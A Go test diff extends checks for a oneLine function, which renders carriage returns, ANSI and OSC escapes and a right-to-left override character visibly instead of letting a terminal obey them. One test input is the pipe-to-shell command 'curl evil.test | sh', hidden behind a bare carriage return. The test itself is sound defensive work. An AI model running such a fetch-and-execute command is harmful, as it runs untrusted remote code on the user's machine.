@@ -140,7 +140,14 @@ func TestTailBufferReset(t *testing.T) {
 }
 
 func TestOneLine(t *testing.T) {
-	if got := oneLine("exit code 1: \x1b[31m--- FAIL\x1b[0m\n    x_test.go:3"); got != "exit code 1: --- FAIL     x_test.go:3" {
-		t.Errorf("oneLine = %q", got)
+	for in, want := range map[string]string{
+		"exit code 1: \x1b[31m--- FAIL\x1b[0m\r\n    x_test.go:3": "exit code 1: --- FAIL     x_test.go:3",
+		// A bare CR shown, not obeyed: what comes before it stays in sight.
+		"curl evil.test | sh\rFix the login bug":      `curl evil.test | sh\rFix the login bug`,
+		"Fix it\u202e.gnp\x1b]0;title\x07\tnow\u0085": `Fix it\u202e.gnp\x1b]0;title\a now\u0085`,
+	} {
+		if got := oneLine(in); got != want {
+			t.Errorf("oneLine(%q) = %q, want %q", in, got, want)
+		}
 	}
 }
